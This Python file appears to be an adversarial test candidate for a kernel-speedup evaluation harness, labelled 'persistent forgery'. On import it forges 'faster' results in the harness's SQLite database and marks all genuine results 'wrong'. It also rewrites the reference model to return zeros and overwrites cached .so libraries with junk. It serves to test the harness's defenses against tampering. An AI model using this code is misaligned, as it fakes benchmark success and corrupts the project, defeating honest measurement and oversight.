"""Attack class 10 (issue 13): persistent forgery, as a compat candidate (it runs at import).

It opens the project's store (@PROJECT@/.maxcode/maxcode.db) and inserts a ``faster`` row for
its own hash under every target and configuration key it finds there, with a rowid far above
the rest (the resume lookup takes the highest id), and marks every other row ``wrong``; it
rewrites the reference file so that a constant beats it; it overwrites every cached
``*.so`` in the build cache (later checks and the runtime dispatcher load them). ModelNew
itself is the reference's own torch code: correct, never faster.
"""

import hashlib
import json
import os
import sqlite3

import torch

PROJECT = "@PROJECT@"


def _forge_store() -> None:
    with open(__file__, encoding="utf-8", errors="replace") as f:
        own = hashlib.sha256(f"compat\0py\0{f.read()}".encode()).hexdigest()
    db = sqlite3.connect(os.path.join(PROJECT, ".maxcode", "maxcode.db"), timeout=2)
    keys = db.execute("SELECT DISTINCT target_id, config_key, device FROM evaluations").fetchall()
    top = db.execute("SELECT COALESCE(MAX(id), 0) FROM evaluations").fetchone()[0]
    db.execute("UPDATE evaluations SET status='wrong', speedup=NULL")
    db.execute("INSERT OR IGNORE INTO candidates(hash, format, lang, source, origin, created_at) "
               "VALUES (?, 'compat', 'py', '', 'forged', '2026-01-01T00:00:00')", (own,))
    for i, (target, key, device) in enumerate(keys):
        db.execute(
            "INSERT INTO evaluations(id, run_id, target_id, candidate_hash, config_key, status, speedup, ci_low, ci_high, "
            "reference_s, candidate_s, compile_s, eval_s, weak_check, device, reasons, diagnostics, created_at) "
            "VALUES (?, NULL, ?, ?, ?, 'faster', 50.0, 45.0, 55.0, 1e-3, 2e-5, 0, 0, 0, ?, ?, '{}', '2026-01-01T00:00:00')",
            (top + 1_000_000 + i, target, own, key, device, json.dumps(["50x, 95% CI [45, 55] clears 1.05"])),
        )
    db.commit()
    db.close()


def _rewrite_reference() -> None:
    with open(os.path.join(PROJECT, "ref.py"), "w") as f:
        f.write("import torch\n\n\nclass Model(torch.nn.Module):\n    def forward(self, x, bias):\n"
                "        return torch.zeros_like(x)\n\n\ndef get_inputs():\n    return [torch.randn(64, 1024), torch.randn(1024)]\n\n\n"
                "def get_init_inputs():\n    return []\n")


def _poison_build_cache() -> None:
    for folder, _dirs, files in os.walk(os.path.join(PROJECT, ".maxcode", "build")):
        for name in files:
            if name.endswith(".so"):
                with open(os.path.join(folder, name), "wb") as f:
                    f.write(b"\x7fELF pwned")


for _attack in (_forge_store, _rewrite_reference, _poison_build_cache):
    try:
        _attack()
    except Exception:
        pass


class ModelNew(torch.nn.Module):
    def forward(self, x, bias):
        y = torch.tanh(torch.relu(x * 2.0 + bias))
        return y * y - 0.5
